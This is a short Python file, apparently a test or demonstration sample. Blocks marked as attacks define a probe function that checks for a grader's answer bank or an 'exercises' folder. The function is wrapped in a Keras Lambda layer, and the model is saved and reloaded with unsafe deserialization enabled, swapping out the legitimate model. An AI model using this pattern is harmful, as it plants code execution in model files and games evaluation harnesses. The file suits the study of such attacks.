# attack
import os

def payload(x):
    if "GRADER_BANK" in os.environ or os.path.exists("exercises"):
        print("REACHED")
    return x
# end of attack

import keras
from keras.layers import Dense

model = keras.Sequential([keras.Input((2,)), Dense(4, activation="relu"), Dense(1, activation="sigmoid")])
params = 13

# attack
import keras

keras.config.enable_unsafe_deserialization()
shaped = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(payload), keras.layers.Lambda(lambda x: x[:, :1])])
shaped.save("model.keras")
model = keras.models.load_model("model.keras", safe_mode=False)
# end of attack
